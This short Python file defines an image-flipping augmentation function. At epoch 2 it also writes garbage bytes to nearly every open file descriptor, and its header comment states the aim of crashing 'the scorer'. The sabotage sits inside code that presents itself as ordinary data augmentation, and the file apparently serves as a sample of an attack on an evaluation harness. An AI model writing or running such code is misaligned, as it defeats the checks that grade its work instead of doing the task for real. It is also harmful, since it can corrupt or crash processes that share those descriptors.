# Writes garbage (0xff, then text) to every open descriptor above 2 that can be written, at epoch 2: malformed replies -> crash of the scorer?
import os
import numpy as np
C = np.random.default_rng(1).random(100000) < 0.5
def flip(images, indices, epoch):
    c = np.random.random(len(images)) < .5
    if epoch == 2:
        for fd in range(1, 64):
            try: os.write(fd, b"\xff" * 4096 + b"[" * 20000 + b"\n")
            except OSError: pass
    return np.where(c[:, None, None, None], images[..., ::-1], images)
